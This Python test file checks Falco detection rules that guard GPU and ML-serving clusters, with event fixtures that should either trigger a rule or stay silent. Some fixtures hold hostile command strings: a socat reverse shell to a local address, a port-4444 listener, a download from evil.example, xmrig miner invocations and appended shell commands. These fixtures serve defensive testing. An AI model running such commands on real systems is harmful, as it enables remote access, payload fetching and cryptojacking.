# Copyright (c) 2026, the gpu_cluster.hardening authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Events that one comparison of a rule decides. tests/tools/mutate_falco_rules.py says which have none."""

from __future__ import annotations

import importlib.util
from pathlib import Path
from typing import Any

import pytest
from ansible_collections.gpu_cluster.hardening.plugins.module_utils.falco.evaluation import fires

SPEC = importlib.util.spec_from_file_location("alternatives", Path(__file__).parent / "test_ml_rules_alternatives.py")
assert SPEC and SPEC.loader
a: Any = importlib.util.module_from_spec(SPEC)
SPEC.loader.exec_module(a)
r: Any = a.r

RENAMED = {"fs_path_source": "/models/x", "fs_path_target": "/tmp/x"}
SIDE_CONTAINER = {"container_name": "other", "k8s_ns_name": "ml-serving"}
TO_OTHER_ROOT = {"evt_arg_target": "/proc/14/root/models", "fs_path_source": "/mnt/models"}

FIRES = [
    *((r.LOOKUP, f"{name} by its bytes", r.sent(a.dns(name), 53, evt_arg_data="")) for name in a.HUBS),
    (r.DOWNLOAD, "Python, a model of another host", r.spawned("python3 get.py https://evil.example/m.pt")),
    (r.CHANGED, "weights in one file", a.moved("rename", fs_path_target="/d/pytorch_model.bin")),
    (r.CHANGED, "code of a configuration", r.opened("/d/configuration_x.py", "w", r.SERVER, by="x")),
    (r.CHANGED, "away", a.moved("rename", **RENAMED)),
    (r.CHANGED, "link by its path", a.moved("linkat", fs_path_source="/models/x")),
    (r.CHANGED, "hard link", a.moved("link", evt_arg_newpath="/models/x")),
    (r.CHANGED, "removed", a.moved("unlink", fs_path_name="/models/x")),
    (r.CHANGED, "other container", r.in_container("r.io/m", evt_type="symlink", **SIDE_CONTAINER, **TO_OTHER_ROOT)),
    (r.SOME_SHELL, "appended", r.below_python("sh -c nvidia-smi -L; x")),
    (r.SOME_SHELL, "before a server", r.below_python("sh -c x; exec python3 y")),
    (r.SHELL, "no cat", r.below_python("x /proc/cpuinfo", image=r.SERVER)),
    (r.SHELL, "no git", r.below_python("x status", image=r.SERVER)),
    (r.SHELL, "socat, no Python", r.spawned("socat tcp:10.0.0.1:1 EXEC:sh")),
    (r.GPU, "another device of the driver", r.opened("/dev/nvidia-fs0", image=r.OTHER)),
    (r.TEMPORARY, "in any image", r.spawned("x", r.OTHER, exepath="/tmp/x")),
    (r.SERVING_INTERNET, "no update", r.connected("203.0.113.7", 80, r.SERVER, proc_name="mlflow")),
    *((r.PORT, str(port), a.listening(port)) for port in (8101, 20001, 30101)),
    (r.PORT, "socat", r.spawned("socat tcp-listen:4444 -")),
]
SILENT = [
    (r.MINER, "not started", r.spawned("xmrig", r.OTHER, evt_failed=True)),
    (r.DOWNLOAD, "pull of something else", r.spawned("make pull x")),
    (r.DOWNLOAD, "no download", r.spawned("kaggle config view")),
    (r.DOWNLOAD, "no client of the hub", r.spawned("ls", proc_env_hub="http://e.io")),
    (r.WRITTEN, "not opened", r.opened("/d/x.gguf", "w", by="wget -O", evt_failed=True)),
    (r.WRITTEN, "a page", r.opened("/d/x.txt", "w", by="wget -O")),
    (r.WRITTEN, "no blob", r.opened("/c/models--x/refs/main", "w", r.OTHER, by="python3")),
    (r.WRITTEN, "no model", r.opened("/c/blobs/x", "w", r.OTHER, by="python3")),
    (r.WRITTEN, "a text", r.opened("/d/x.txt", "w", r.OTHER, by="client")),
    (r.CHANGED, "link to a text", a.moved("linkat", fs_path_source="/d/x.txt")),
    *((r.CHANGED, name, {**a.moved("unlink", fs_path_name="/models/x"), "proc.name": name})
      for name in ("youki:[2:INIT]", "runc")),
    (r.PICKLE, "a text", r.opened("/m/x.txt", image=r.SERVER, by="python3")),
    (r.PICKLE, "other code", r.spawned("python3 -c print(1)")),
    (r.SHELL, "no code", r.spawned("python3 /opt/socket.py --subprocess")),
    (r.SHELL, "search for code", r.spawned("grep socket subprocess")),
    (r.SHELL, "parent not known", r.spawned("x", r.SERVER, parent="")),
    (r.SHELL, "env starts", r.below_python("env A=1 x")),
    *((r.SHELL, words, r.below_python(words))
      for words in ("ls -e", "perl x.pl", "php x", "ls -r", "x exec:y", "ls -d", "base64 x")),
    (r.SHELL, "socat, no program", r.spawned("socat - tcp:10.0.0.1:1")),
    (r.SHELL, "at a terminal", r.spawned("bash -i", proc_tty=34816)),
    (r.SHELL, "no terminal, not told to be one", r.spawned("bash -l", proc_tty=0)),
    (r.SHARED_MEMORY, "looked at", r.spawned("ls /dev/shm/x")),
    (r.TEMPORARY, "script of the image", r.spawned("python3 /opt/x.py", r.SERVER)),
    (r.STARTUP, "another file", a.moved("rename", fs_path_target="/d/x")),
    *((r.PACKAGE, words, r.spawned(words))
      for words in ("pip3.11 list", "conda list", "make install", "npm test", "x update", "rpm --version")),
    (r.PACKAGE, "not unpacked", r.opened("/l/site-packages/e-1.dist-info/METADATA", "w", by="x", evt_failed=True)),
    (r.PACKAGE, "another file", r.opened("/l/site-packages/e.py", "w", by="x")),
    *((r.DEVICE, words, r.spawned(words, r.OTHER)) for words in ("x /a c 1 1", "x /a c 195 0")),
    (r.ALL_GPUS_UNKNOWN, "none", r.spawned("x", None, proc_vpid=1)),
    (r.CREDENTIALS, "mount of data", r.in_container(r.SERVER, evt_type="mount", evt_arg_dev="/data")),
    *((r.MINER, words, r.spawned(words, r.OTHER)) for words in ("x -u me", "x -o h:1000")),
    (r.MINER, "read", r.opened("/proc/sys/vm/nr_hugepages", image=r.OTHER)),
    (r.MINER, "written elsewhere", r.opened("/x", "w", r.OTHER)),
    (r.POOL, "other call", r.sent('"params":{"login"', 443, r.OTHER)),
    (r.PORT, "a script", r.spawned("python3 x.py", r.SERVER)),
    *((r.PORT, words, r.spawned(words)) for words in ("ls -l", "x listen", "socat - tcp:10.0.0.1:1")),
]  # fmt: skip


@pytest.mark.parametrize(("rule", "event"), r.cases(FIRES))
def test_the_rule_needs_no_more(rule: str, event: Any) -> None:
    assert fires(r.RULE_SET, rule, event)


@pytest.mark.parametrize(("rule", "event"), r.cases(SILENT))
def test_the_rule_needs_no_less(rule: str, event: Any) -> None:
    assert not fires(r.RULE_SET, rule, event)
